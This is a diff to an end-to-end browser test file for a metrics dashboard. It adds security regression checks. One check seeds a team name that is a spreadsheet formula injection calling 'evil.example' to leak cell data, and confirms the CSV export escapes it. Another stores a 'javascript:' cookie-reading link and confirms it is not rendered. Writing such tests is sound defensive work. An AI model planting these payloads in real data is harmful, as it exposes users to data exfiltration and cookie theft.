@@ -16,10 +16,18 @@ let database: TestDatabase;
 let org: SeededOrg;
 let server: DashboardServer;
 let page: Page;
+const HOSTILE_TEAM_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Mobile")';
 
 beforeAll(async () => {
   database = await createTestDatabase();
   org = await seedDashboardOrg(database.db, { now: new Date(), days: 120, seed: 7 });
+  // A name a spreadsheet would run as a formula: the dashboard's CSV exports must write it as text.
+  org.teams[2]!.name = HOSTILE_TEAM_NAME;
+  await database.db
+    .updateTable('teams')
+    .set({ name: HOSTILE_TEAM_NAME })
+    .where('slug', '=', org.teams[2]!.slug)
+    .execute();
   server = await startDashboard(database.db, org.teams);
   const context = await server.browser.newContext({
     viewport: { width: 1280, height: 900 },
@@ -76,7 +84,9 @@ describe('dashboard in Chromium against the real API', () => {
     await page.locator('.chart-card svg.recharts-surface').first().waitFor();
     expect(await page.locator('.chart-card').count()).toBe(5);
     await page.screenshot({ path: `${artifacts}overview.png`, fullPage: true });
-  });
+    // The first load may wait up to 90 s for its figures: the test itself must outlast that, or
+    // it times out while its steps go on driving the page under the next test.
+  }, 180_000);
 
   it('shows the last sync and labels demo data', async () => {
     // Seeded sync runs all succeeded: "Last sync …", no failing source, no demo label yet.
@@ -115,6 +125,13 @@ describe('dashboard in Chromium against the real API', () => {
     const legend = page.locator('section.chart-card').first().locator('.recharts-legend-item');
     await expect.poll(() => legend.count(), { timeout: 15_000 }).toBe(org.teams.length + 1);
     expect(new URL(page.url()).searchParams.get('compare')).toBe('teams');
+    // The compared chart's CSV (made in the browser by @stride/shared/csv) has a column per team.
+    const card = page.locator('section.chart-card').first();
+    const file = await download(() => card.getByRole('button', { name: /as CSV/ }).click());
+    const [header] = parseCsv(file.body.toString('utf8'));
+    expect(header?.slice(0, 2)).toEqual(['bucket', 'Organisation']);
+    expect(header).toContain(`'${HOSTILE_TEAM_NAME}`);
+    expect(header).not.toContain(HOSTILE_TEAM_NAME);
     await page.getByLabel('Compare teams').click();
     await expect.poll(() => legend.count(), { timeout: 15_000 }).toBe(0);
   });
@@ -157,6 +174,21 @@ describe('dashboard in Chromium against the real API', () => {
     const file = await download(() => page.getByTestId('drill-csv').click());
     const rows = parseCsv(file.body.toString('utf8'));
     expect(rows.length - 1).toBe(expected.length);
+
+    // A stored link that is not http(s) (from an older version, or written past the checks) is
+    // shown as text: no link at all, whatever the browser would make of it.
+    const rowsLocator = page.locator('[data-testid="drill-table"] tbody tr');
+    const firstHref = await rowsLocator.first().locator('a').first().getAttribute('href');
+    await database.db
+      .updateTable('deployments')
+      .set({ url: 'javascript:alert(document.cookie)' })
+      .where('url', '=', firstHref!)
+      .execute();
+    await page.reload();
+    await expect.poll(() => rowsLocator.count(), { timeout: 15_000 }).toBe(Math.min(50, expected.length));
+    expect(await rowsLocator.first().locator('a').count()).toBe(0);
+    expect(await rowsLocator.nth(1).locator('a').count()).toBe(1);
+    expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
 
     // Incidents link to Jira.
     await page.getByRole('link', { name: 'Incidents' }).click();
@@ -277,9 +309,12 @@ describe('dashboard in Chromium against the real API', () => {
     expect(await page.getByRole('alert').innerText()).toMatch(/unknown or revoked/);
     await page.getByTestId('token-input').fill(viewer.token);
     await page.getByRole('button', { name: 'Sign in' }).click();
-    await page.locator(`tr[data-team="${org.teams[0]!.slug}"] .metric-cell`).first().waitFor();
+    await page
+      .locator(`tr[data-team="${org.teams[0]!.slug}"] .metric-cell`)
+      .first()
+      .waitFor({ timeout: 90_000 });
     // The token itself is not kept by the page (the session is an httpOnly cookie).
     const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + document.cookie);
     expect(stored).not.toContain(viewer.token);
-  });
+  }, 180_000);
 });
